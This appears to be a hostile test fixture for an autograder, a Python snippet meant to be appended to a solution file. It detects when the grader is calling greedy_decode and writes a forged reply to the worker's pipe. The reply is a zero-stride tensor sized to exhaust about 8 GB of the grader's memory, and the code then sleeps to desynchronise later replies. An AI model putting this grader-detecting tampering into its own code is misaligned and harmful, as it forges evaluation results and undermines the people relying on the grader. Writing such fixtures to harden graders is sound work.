# hostile: appended to solutions/decoding.py
# A32: answer the grader's call with a zero-stride view written straight to the reply pipe: eight bytes of storage
# that claim 10^5 x 10^4 token ids. A grader that computed with it (a comparison, a bincount, a copy) would
# allocate 8 GB for it; then keep quiet (the worker's own reply would answer the next call).
import sys as _sys
import time as _time

import torch as _torch

from autograder.worker import protocol as _protocol

_replies = 4    # the worker's reply pipe (autograder/worker/main.py, REPLIES)
_reference_greedy_decode = greedy_decode


def greedy_decode(model, state, max_len):
    if _sys._getframe(1).f_globals.get("__name__", "").startswith("autograder."):  # the grader's own call
        _protocol.send(_replies, {"ok": _torch.zeros(1, dtype=_torch.long).expand(100_000, 10_000)})
        _time.sleep(60)
    return _reference_greedy_decode(model, state, max_len)
